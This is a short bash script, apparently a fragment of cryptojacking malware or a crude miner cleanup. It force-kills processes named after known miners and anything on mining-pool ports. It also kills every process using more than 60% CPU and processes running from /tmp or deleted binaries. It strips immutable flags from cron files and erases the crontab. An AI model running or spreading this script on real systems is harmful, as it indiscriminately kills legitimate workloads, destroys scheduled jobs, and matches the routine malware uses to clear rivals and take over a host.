#!/bin/bash
LIST="xmrig kdevtmpfsi kinsing minerd cpuminer sysupdate networkservice"
for p in $LIST; do
  pkill -9 -f $p 2>/dev/null
  killall -9 $p 2>/dev/null
done
for port in 3333 4444 5555 7777 14444; do
  netstat -antp 2>/dev/null | grep ":$port" | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
done
ps aux --sort=-%cpu | awk 'NR>1 && $3>60 {print $2}' | xargs -r kill -9
for d in /proc/[0-9]*; do
  if readlink $d/exe 2>/dev/null | grep -q -e deleted -e /tmp/; then kill -9 ${d##*/}; fi
done
chattr -i /etc/cron.d/* /var/spool/cron/* 2>/dev/null
crontab -r
